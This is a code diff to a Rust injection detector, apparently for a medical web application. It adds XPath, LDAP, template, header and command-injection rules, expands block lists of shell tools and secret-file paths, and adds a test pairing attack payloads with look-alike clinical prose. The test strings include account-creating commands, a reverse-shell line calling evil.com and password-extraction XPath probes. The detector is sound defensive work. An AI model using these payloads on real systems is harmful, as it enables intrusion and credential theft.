@@ -59,6 +59,9 @@ pub enum Class {
     Ldapi,
     /// ORM lookup injection (Django-style `field__startswith`, `user__password__regex`).
     Orm,
+    /// XPath injection: a predicate closed and a path joined (`'] | //user`), a condition
+    /// made always true with XPath's own functions (`' or true() or ''='`).
+    Xpath,
     /// Vulnerability scanners that name themselves in `User-Agent`.
     Scanner,
 }
@@ -88,6 +91,7 @@ impl Class {
             Class::Multipart => "multipart",
             Class::Ldapi => "ldapi",
             Class::Orm => "orm-injection",
+            Class::Xpath => "xpath",
             Class::Scanner => "scanner",
         }
     }
@@ -116,6 +120,7 @@ pub const CLASSES: &[Class] = &[
     Class::Multipart,
     Class::Ldapi,
     Class::Orm,
+    Class::Xpath,
     Class::Scanner,
 ];
 
@@ -209,17 +214,25 @@ macro_rules! shell_path {
 }
 macro_rules! shell_only_words {
     () => {
-        "whoami|uname|wget|curl|ncat|netcat|bash|sh|zsh|ksh|csh|python[0-9.]*|nslookup|chmod|chown|nmap|telnet|ifconfig|ipconfig|powershell|printenv|xargs|awk|base64|tftp|ftp|scp|sudo|useradd|crontab|systeminfo|tasklist|certutil|bitsadmin|mshta|rundll32|wmic|cscript|wscript|base32|cpulimit"
+        "whoami|hostname|uname|wget|curl|ncat|netcat|bash|sh|zsh|ksh|csh|python[0-9.]*|nslookup|chmod|chown|nmap|telnet|ifconfig|ipconfig|powershell|printenv|xargs|awk|base64|tftp|ftp|scp|sudo|useradd|crontab|systeminfo|tasklist|certutil|bitsadmin|mshta|rundll32|wmic|cscript|wscript|base32|cpulimit"
     };
 }
 macro_rules! prose_words {
     () => {
-        "cat|id|ping|dig|echo|touch|cmd|sleep|kill|ps|env|head|tail|find|su|column|flock|sed|ssh|rm|ls|nc|php|ruby|perl|dir"
+        "cat|id|pwd|ping|dig|echo|touch|cmd|sleep|kill|ps|env|head|tail|find|su|column|flock|sed|ssh|rm|ls|nc|php|ruby|perl|dir"
     };
 }
 macro_rules! tool_words {
     () => {
-        r"ansible(?:-[a-z]+)?|chef-[a-z]+|cscli|aa-[a-z]{3,}|bsdtar|ifconfig|whoami|python[0-9][0-9.]*|strace|ltrace|gdb|lldb|htop|tcpdump|tshark|socat|openssl|busybox|toybox|nohup|setsid|mkfifo|mknod|xxd|hexdump|sqlite3|mysql|psql|mongosh|redis-cli|kubectl|crictl|systemctl|journalctl|chattr|lsattr|setfacl|getfacl|iptables|ip6tables|netstat|lsof|pkill|killall|pgrep|visudo|chpasswd|rsync|lftp|aria2c|lwp-download|lwp-request|uconv|lastlogin|lastlog|readelf|objdump|ldd|tmux|byobu|uuencode|uudecode|zcat|zgrep|bzcat|xzcat|gunzip|bunzip2|unxz|unrar|insmod|rmmod|modprobe|sysctl|dmesg|chroot|nsenter|capsh|runuser|sudoedit|pkexec|sendmail|mailx|crontab|pip[0-9.]*|pipx|npx|pnpm|apt-get|dpkg|yum|dnf|zypper|flatpak|podman|c89|c99|gcc[0-9.]*|g\+\+|tclsh|luajit|jjs|jrunscript|irb|nodejs|cpan|7za?|bcdboot|bcdedit|bootcfg|diskpart|regsvr32|schtasks|netsh|vssadmin|wevtutil|takeown|icacls|cacls|forfiles|wbadmin"
+        r"ansible(?:-[a-z]+)?|chef-[a-z]+|cscli|aa-[a-z]{3,}|bsdtar|ifconfig|whoami|python[0-9][0-9.]*|strace|ltrace|htop|tcpdump|tshark|socat|openssl|busybox|toybox|nohup|setsid|mkfifo|mknod|xxd|hexdump|sqlite3|mysql|psql|mongosh|redis-cli|kubectl|crictl|systemctl|journalctl|chattr|lsattr|setfacl|getfacl|iptables|ip6tables|netstat|lsof|pkill|killall|pgrep|visudo|chpasswd|rsync|lftp|aria2c|lwp-download|lwp-request|uconv|lastlogin|lastlog|readelf|objdump|tmux|byobu|uuencode|uudecode|zcat|zgrep|bzcat|xzcat|gunzip|bunzip2|unxz|unrar|insmod|rmmod|modprobe|sysctl|dmesg|chroot|nsenter|capsh|runuser|sudoedit|pkexec|sendmail|mailx|crontab|pipx|npx|pnpm|apt-get|dpkg|yum|dnf|zypper|flatpak|podman|gcc[0-9.]*|g\+\+|tclsh|luajit|jjs|jrunscript|nodejs|cpan|7za?|bcdboot|bcdedit|bootcfg|diskpart|regsvr32|schtasks|netsh|vssadmin|wevtutil|takeown|icacls|cacls|forfiles|wbadmin"
+    };
+}
+/// Programs whose names are also clinical or research abbreviations (an IRB's approval,
+/// `LDD` a leg length discrepancy, `PIP2` a phospholipid, `GDB`, `C99`): at a value's start
+/// they count only before an option, a path or the end of the value.
+macro_rules! abbreviation_tool_words {
+    () => {
+        r"irb|ldd|gdb|lldb|pip[0-9.]*|c89|c99"
     };
 }
 macro_rules! shell_words {
@@ -237,7 +250,7 @@ const VALUE_RULES: &[Rule] = &[
     Rule {
         id: "xss-112",
         class: Class::Xss,
-        pattern: r"(?:java|vb|live)script\s*:|data\s*:\s*text/html|\bexpression\s*\(|\bsrcdoc\s*=",
+        pattern: r"(?:java|vb|live)script\s*:|data\s*:\s*text/html|data\s*:\s*(?:text|application)/(?:x-)?(?:java|ecma)script|\bexpression\s*\(|\bsrcdoc\s*=",
     },
     Rule {
         id: "lfi-100",
@@ -247,7 +260,7 @@ const VALUE_RULES: &[Rule] = &[
     Rule {
         id: "lfi-110",
         class: Class::Lfi,
-        pattern: r"(?:^|/)(?:etc/+(?:passwd|shadow|group|hosts|issue|crontab|sudoers)|proc/+self/|proc/+\d+/|windows/+(?:system32|win\.ini)|win\.ini|boot\.ini|\.htaccess|\.htpasswd|web\.config|(?:web|meta)-inf/|\.git/|\.ssh/|\.(?:docker|aws|kube|gnupg)/|id_rsa|\.bash_history|\.env$)",
+        pattern: r"(?:^|/)(?:etc/+(?:passwd|shadow|group|hosts|issue|crontab|sudoers)|proc/+self/|proc/+\d+/|windows/+(?:system32|win\.ini|system\.ini)|win\.ini|\.dockerenv$|(?:var/)?run/secrets/|\.(?:bash|zsh)rc$|\.bash_profile$|boot\.ini|\.htaccess|\.htpasswd|web\.config|(?:web|meta)-inf/|\.git/|\.ssh/|\.(?:docker|aws|kube|gnupg)/|id_rsa|\.bash_history|\.env$)",
     },
     Rule {
         id: "rfi-100",
@@ -260,6 +273,14 @@ const VALUE_RULES: &[Rule] = &[
         // A JNDI name with its naming scheme, however the `${` before it was spelled
         // (`$&lbrace;`, `$\u007b`): nothing but a lookup writes it.
         pattern: r"jndi\s*:\s*(?:ldaps?|rmi|dns|iiop|corba|nds|nis|https?)\s*:",
+    },
+    Rule {
+        // A quoted predicate closed, then a union with another path (`'] | //user/*`,
+        // `admin')] | //user[`): the value leaves the expression the backend wrote and
+        // selects another part of the document.
+        id: "xpath-110",
+        class: Class::Xpath,
+        pattern: r"['\x22]\s*\)?\s*\]\s*\|\s*/",
     },
     Rule {
         id: "ldapi-100",
@@ -386,7 +407,18 @@ const VALUE_RULES: &[Rule] = &[
             tool_words!(),
             r")(?:\s|$|[;|&<>`'\x22)])|(?:[;|&`\n]|\$\(|\|\||&&)\s*['\x22]?",
             shell_path!(),
-            r"?(?:aptitude|clang|composer|pacman|unshare)(?:\s|$|[;|&<>`'\x22)])",
+            r"?(?:aptitude|clang|composer|pacman|unshare|",
+            abbreviation_tool_words!(),
+            r")(?:\s|$|[;|&<>`'\x22)])|^\s*['\x22]?",
+            shell_path!(),
+            r"?(?:",
+            abbreviation_tool_words!(),
+            r")(?:\s*$|\s+(?:-{1,2}[a-z]|/|\./|~/|(?:install|uninstall|download|freeze)\b))",
+            // Programs whose names are words or abbreviations (`IP`, `net`, `reg`, `ss`,
+            // `java`, `timeout`) count with the subcommand or option only a shell reads.
+            r"|(?:^|[;|&`\n]|\$\(|\|\||&&)\s*['\x22]?",
+            shell_path!(),
+            r"?(?:ip\s+(?:-[a-z0-9]+\s+)*(?:addr|address|link|neigh|netns|tuntap|xfrm)\b|ip\s+r(?:oute)?\s+(?:show|list|get)\b|ss\s+-[a-z]|net1?\s+(?:localgroup|accounts|share|session)\b|net1?\s+user(?:\s*$|\s[^;|&\n]*/(?:add|del|delete|domain|active)\b)|reg\s+(?:query|add|delete|export|save)\s+['\x22]?hk|xterm\s+-|java\s+-(?:jar|cp|classpath)\s|waitfor\s+/|choice\s+/[a-z]|timeout\s+(?:/t\b|\d+[smhd]?\s+(?:sleep|sh|bash|ping|curl|wget|nc|python[0-9.]*|perl)\b))",
         ),
     },
     Rule {
@@ -445,7 +477,7 @@ const VALUE_RULES: &[Rule] = &[
     Rule {
         id: "ssti-100",
         class: Class::Ssti,
-        pattern: r"\{\{[^}]*(?:\d['\x22]?\s*[*+/-]\s*['\x22]?\d|__|\bconfig\b|\bself\b|\brequest\b|\.\s*class\b|['\x22\d]\s*\.\s*[a-z_]\w*\s*\(|\|)[^}]*\}\}|\{%[^%]*%\}|<%[=\s].*%>|\$\{\s*\d+\s*[*+/-]\s*\d+\s*\}|[#*]\{\s*\d+\s*[*+/-]\s*\d+\s*\}|@\(\s*\d+\s*[*+/-]\s*\d+\s*\)|%\{\s*\d+\s*[*+/-]\s*\d+\s*\}|\{\$smarty\.|_self\.env\.|registerundefinedfiltercallback|\{\{\s*(?:app\.(?:request|session|user)\b|(?:dump|constant)\s*\()|#set\s*\(\s*\$[a-z]|#(?:foreach|evaluate)\s*\(\s*['\x22$]",
+        pattern: r"\{\{[^}]*(?:\d['\x22]?\s*[*+/-]\s*['\x22]?\d|__|\bconfig\b|\b_?self\b|\brequest\b|\.\s*class\b|['\x22\d]\s*\.\s*[a-z_]\w*\s*\(|\|)[^}]*\}\}|\{%[^%]*%\}|<%[=\s].*%>|\$\{\s*\d+\s*[*+/-]\s*\d+\s*\}|[#*]\{\s*\d+\s*[*+/-]\s*\d+\s*\}|@\(\s*\d+\s*[*+/-]\s*\d+\s*\)|%\{\s*\d+\s*[*+/-]\s*\d+\s*\}|\{\$smarty\.|_self\.env\.|registerundefinedfiltercallback|\{\{\s*(?:app\.(?:request|session|user)\b|(?:dump|constant)\s*\()|#set\s*\(\s*\$[a-z]|#(?:foreach|evaluate)\s*\(\s*['\x22$]|\{\{\s*[#/](?:with|each)\b|[#$]\{\s?t\s?\(\s?[a-z]+\.|\| ?(?:filter|map|reduce|sort) ?\( ?['\x22](?:system|exec|passthru|shell_exec|popen|proc_open)\b",
     },
     Rule {
         id: "php-100",
@@ -650,7 +682,7 @@ const VALUE_RULES: &[Rule] = &[
         // clinical note is `S:`, `Plan:`, `X-ray:`, `Location: lower back`, `Cookie: 2
         // pieces`, `<0.5 mg/dL`: text, as a multi-line note, a SOAP note or a text file
         // holds it.
-        pattern: r"[\r\n]\s*(?:set-cookie2?\s*:\s*[^\s=;:]+=|cookie\s*:\s*[^\s=;:]+=|(?:content-)?location\s*:\s*(?:[a-z][a-z0-9+.-]*:|/|[a-z0-9-]+\.[a-z]{2,}\b)|refresh\s*:\s*(?:\d+\s*(?:[;,]|$)|[a-z][a-z0-9+.-]*:|[a-z0-9-]+\.[a-z]{2,}\b)|content-type\s*:\s*[a-z]+/[a-z0-9.+-]+|content-length\s*:\s*\d|content-disposition\s*:\s*(?:attachment|inline|form-data)|(?:content|transfer)-encoding\s*:\s*(?:chunked|gzip|deflate|br|identity|compress)|content-security-policy\s*:|host\s*:\s*[a-z0-9-]+(?:\.[a-z0-9-]+)+(?::\d+)?\s*(?:$|[\r\n])|via\s*:\s*(?:\d|https?/)|forwarded\s*:\s*(?:for|by|host|proto)=|connection\s*:\s*(?:close|keep-alive|upgrade)|upgrade\s*:\s*(?:websocket|h2c|https?/|tls/)|(?:proxy-|www-)?auth(?:orization|enticate)\s*:\s*(?:basic|bearer|digest|negotiate|ntlm)\b|access-control-allow-[a-z-]+\s*:|link\s*:\s*<|(?:remote-(?:addr|ip)|originating-ip|forwarded-(?:for|host|server)|x-(?:forwarded|real|remote|originating|client|original|rewrite|http-method|host|frame|xss|content-type|injected|test)[a-z0-9-]*)\s*:|http/\d(?:\.\d)?\s+\d{3}\b|<\s*(?:html|head|body|meta|script|iframe|svg|img)\b)",
+        pattern: r"[\r\n]\s*(?:set-cookie2?\s*:\s*[^\s=;:]+=|cookie\s*:\s*[^\s=;:]+=|(?:content-)?location\s*:\s*(?:[a-z][a-z0-9+.-]*:|/|[a-z0-9-]+\.[a-z]{2,}\b)|refresh\s*:\s*(?:\d+\s*(?:[;,]|$)|[a-z][a-z0-9+.-]*:|[a-z0-9-]+\.[a-z]{2,}\b)|content-type\s*:\s*[a-z]+/[a-z0-9.+-]+|content-length\s*:\s*\d|content-disposition\s*:\s*(?:attachment|inline|form-data)|(?:content|transfer)-encoding\s*:\s*(?:chunked|gzip|deflate|br|identity|compress)|content-security-policy\s*:|strict-transport-security\s*:|cache-control\s*:\s*(?:no-|max-age|private|public|must-)|pragma\s*:\s*no-cache|expect\s*:\s*100-continue|trailer\s*:\s*[a-z]+-[a-z0-9-]+\s*(?:$|[\r\n,])|host\s*:\s*[a-z0-9-]+(?:\.[a-z0-9-]+)+(?::\d+)?\s*(?:$|[\r\n])|via\s*:\s*(?:\d|https?/)|forwarded\s*:\s*(?:for|by|host|proto)=|connection\s*:\s*(?:close|keep-alive|upgrade)|upgrade\s*:\s*(?:websocket|h2c|https?/|tls/)|(?:proxy-|www-)?auth(?:orization|enticate)\s*:\s*(?:basic|bearer|digest|negotiate|ntlm)\b|access-control-allow-[a-z-]+\s*:|link\s*:\s*<|(?:remote-(?:addr|ip)|originating-ip|forwarded-(?:for|host|server)|x-(?:forwarded|real|remote|originating|client|original|rewrite|http-method|host|frame|xss|content-type|injected|test|powered)[a-z0-9-]*)\s*:|http/\d(?:\.\d)?\s+\d{3}\b|<\s*(?:html|head|body|meta|script|iframe|svg|img)\b)",
     },
     Rule {
         id: "protocol-140",
@@ -675,6 +707,15 @@ const MARKUP_RULES: &[Rule] = &[
         id: "xss-111",
         class: Class::Xss,
         pattern: r"<[a-z][^>]*?[\s/]on[a-z]{3,}\s*=",
+    },
+    Rule {
+        // Attributes that send a request when clicked or followed (`formaction`, `ping`), put
+        // a value into the page as markup in a front-end framework (`v-html`,
+        // `ng-bind-html`, `[innerHTML]`, `dangerouslySetInnerHTML`, `set:html`, Knockout's
+        // `data-bind="html:`) or give a page Node's powers (`<webview nodeintegration>`).
+        id: "xss-114",
+        class: Class::Xss,
+        pattern: r"<[a-z][^>]*?[\s/](?:formaction|ping|(?:data-)?v-html|ng-bind-html|dangerouslysetinnerhtml|\[innerhtml\]|(?:bind:)?innerhtml|set:html|nodeintegration|data-bind\s*=\s*['\x22]?\s*html\s*:)(?:\s|=|>|/|$)",
     },
     Rule {
         // A server-side include directive (`<!--#exec cmd="id"-->`, `<!--#include
@@ -725,6 +766,15 @@ const BRACE_RULES: &[Rule] = &[Rule {
 /// [`VALUE_RULES`] because their word lists make the lazy DFA's states costly to build (a
 /// value seen for the first time pays for them), and most values hold no parenthesis.
 const CALL_RULES: &[Rule] = &[
+    Rule {
+        // A condition made always true or false with XPath's own functions (`' or true() or
+        // ''='`, `' and not(false())`), or a path step's predicate that probes the document
+        // (`//user[position()=1]`, `//*[local-name()='password']`): no prose writes `()` after
+        // `true`, nor a function inside brackets after `//`.
+        id: "xpath-100",
+        class: Class::Xpath,
+        pattern: r"\b(?:or|and)\s+(?:not\s*\(\s*)?(?:true|false)\s*\(\s*\)|//(?:[a-z][a-z0-9_:-]*|\*)\s*\[\s*(?:position|contains|local-name|name|text|starts-with|last|string-length|count|substring)\s*\(",
+    },
     Rule {
         // Server-side JavaScript in a MongoDB `$where`: a shell call (`db.users.insert(`) or
         // a busy wait (`do{…}while(`), which prose never writes.
@@ -833,9 +883,10 @@ const GATED: &[Gate] = &[
 
 /// A filter closed and another opened: `)(uid=*`, `)(|`, `)!(sn=*`, `)&(cn=`, or a
 /// wildcard then a filter of filters (`*(|(mail=*))`: the value closes a search for
-/// anything). Spaces only around operators, so that prose with two parentheticals
-/// (`(NGSP) (n=2)`) is not one.
-const LDAP_FILTER: &str = r"\)\s*!?\s*\(\s*[&|!]|\)!?\([a-z][a-z0-9.;-]*[~<>]?=|\)\s*[&|]\s*\(|\*\s*\(\s*[&|!]\s*\(\s*[a-z][a-z0-9.;-]*\s*[~<>]?=";
+/// anything), an extensible match (`)(userAccountControl:1.2.840.113556.1.4.803:=2)`), or a
+/// value that ends by opening a wildcard filter (`admin)(*`). Spaces only around operators,
+/// so that prose with two parentheticals (`(NGSP) (n=2)`) is not one.
+const LDAP_FILTER: &str = r"\)\s*!?\s*\(\s*[&|!]|\)!?\([a-z][a-z0-9.;-]*(?::[a-z0-9.]*:)?[~<>]?=|\)\s*[&|]\s*\(|\*\s*\(\s*[&|!]\s*\(\s*[a-z][a-z0-9.;-]*\s*[~<>]?=|\)\(\*$";
 
 /// Django-style ORM lookups (`created_by__user__password__startswith`): a backend that
 /// passes parameter names to its ORM lets them filter on any related field.
@@ -1770,6 +1821,8 @@ fn command_word(word: &[u8]) -> bool {
             shell_words!(),
             "|",
             tool_words!(),
+            "|",
+            abbreviation_tool_words!(),
             "|etc|passwd|shadow|group|hosts|bin|sbin|tmp|usr|dev|proc|self|environ|var|log|",
             "home|root|time|which|more|less|tac|rev|strings|grep|egrep|cp|mv|mkdir|export|",
             "set|eval|exec|source|printf|alias"
@@ -3609,6 +3662,113 @@ mod tests {
 
     fn hit(raw: &str) -> Option<&'static str> {
         value(&normalise(raw.as_bytes(), Plus::Space)).map(|h| h.class.name())
+    }
+
+    fn rule(raw: &str) -> Option<&'static str> {
+        value(&normalise(raw.as_bytes(), Plus::Space)).map(|h| h.rule)
+    }
+
+    /// Shapes from attack sets no earlier rule was written from (fray's payload files,
+    /// BRS-KB's XSS payloads), each beside the prose that looks most like it.
+    #[test]
+    fn held_out_payload_shapes_are_refused_and_their_prose_neighbours_pass() {
+        for (attack, id) in [
+            ("' or true() or ''='", "xpath-100"),
+            ("' and not(false()) and ''='", "xpath-100"),
+            (
+                "' or substring(//user[position()=1]/password,1,1)='a",
+                "xpath-100",
+            ),
+            ("'] | //*[local-name()='password'] | /a['", "xpath-110"),
+            ("admin')] | //user[('1'='1", "xpath-110"),
+            (
+                "*)(userAccountControl:1.2.840.113556.1.4.803:=65536)",
+                "ldapi-100",
+            ),
+            ("admin)(*", "ldapi-100"),
+            ("{{_self}}", "ssti-100"),
+            ("{{_self.env}}", "ssti-100"),
+            ("{{#with \"e\"}}", "ssti-100"),
+            ("{{{'a':'id'}.a|filter('system')}}", "ssti-100"),
+            (
+                "#{T(org.apache.commons.lang3.SystemUtils).IS_OS_LINUX}",
+                "ssti-100",
+            ),
+            ("x\r\nStrict-Transport-Security:max-age=0", "crlf-100"),
+            ("x\r\nX-Powered-By:Hacked", "crlf-100"),
+            ("x\r\nCache-Control:no-store", "crlf-100"),
+            ("x\r\nExpect:100-continue", "crlf-100"),
+            ("x\r\nTrailer:X-Evil\r\n", "crlf-100"),
+            ("C:\\Windows\\system.ini", "lfi-110"),
+            ("/.dockerenv", "lfi-110"),
+            ("/run/secrets/kubernetes.io/serviceaccount/token", "lfi-110"),
+            ("/home/user/.bashrc", "lfi-110"),
+            ("; pwd", "rce-100"),
+            ("|| pwd", "rce-100"),
+            (";hostname", "rce-100"),
+            (";ip addr", "rce-105"),
+            ("; ip -4 addr show", "rce-105"),
+            (";ss -tulpn", "rce-105"),
+            ("& net user", "rce-105"),
+            ("& net user hacker P@ss1 /add", "rce-105"),
+            ("& net localgroup administrators", "rce-105"),
+            ("& reg query HKLM\\Software", "rce-105"),
+            ("; xterm -display evil.com:1", "rce-105"),
+            ("; java -jar reverse.jar evil.com 4444", "rce-105"),
+            ("; timeout 5 sleep 10", "rce-105"),
+            ("; waitfor /t 5 pause", "rce-105"),
+            ("; choice /t 5 /d y", "rce-105"),
+            ("gdb -p 1", "rce-105"),
+            ("pip3 install evil", "rce-105"),
+            ("ldd /usr/lib/libc.so", "rce-105"),
+            ("; irb", "rce-105"),
+            ("irb", "rce-105"),
+            ("data:text/javascript;base64,YWxlcnQoMSk=", "xss-112"),
+            ("data:application/javascript,alert(1)", "xss-112"),
+            ("<button formaction=//attacker/>", "xss-114"),
+            (
+                "<a ping=\"https://evil.com\" href=\"#\">click</a>",
+                "xss-114",
+            ),
+            ("<div v-html=\"userInput\"></div>", "xss-114"),
+            ("<div [innerHTML]='userInput'></div>", "xss-114"),
+            ("<div data-bind=\"html: userInput\"></div>", "xss-114"),
+            (
+                "<webview src=\"https://evil.com\" nodeintegration></webview>",
+                "xss-114",
+            ),
+            ("..%25c1%251c..%25c1%251cetc/passwd", "encoding-100"),
+        ] {
+            assert_eq!(rule(attack), Some(id), "{attack:?}");
+        }
+        for prose in [
+            "Take with food or true (unsweetened) juice",
+            "true or false: patient fasting",
+            "Results [see page 2] | follow-up in 2 weeks",
+            "Dose (am)(pm) split",
+            "Left arm (mild)(*) see footnote",
+            "Discussed self-care {{patient}} template",
+            "{{name}} was seen today",
+            "Plan:\r\nCache-Control of diet\r\nExpect: improvement\r\nTrailer: hitched",
+            "Patient works as a sysadmin (Windows)",
+            "IP route of administration; IP dosing",
+            "net weight 70 kg; net user fees waived",
+            "Timeout 5 minutes rest; timeout 10 min",
+            "Java developer; desk job",
+            "PWD peer group; people with diabetes",
+            "Sleep 6 hours; ID card renewed",
+            "data: text, not code",
+            "IRB approval obtained",
+            "LDD noted, right leg 1 cm shorter",
+            "PIP2 levels low",
+            "pip2 phosphoinositidase c",
+            "GDB contact made",
+            "C99 standard",
+            "<b>ping</b> test negative; <i>innerHTML</i> is a word",
+            "BP <120 ping-pong; formaction plan",
+        ] {
+            assert_eq!(rule(prose), None, "{prose:?}");
+        }
     }
 
     #[test]
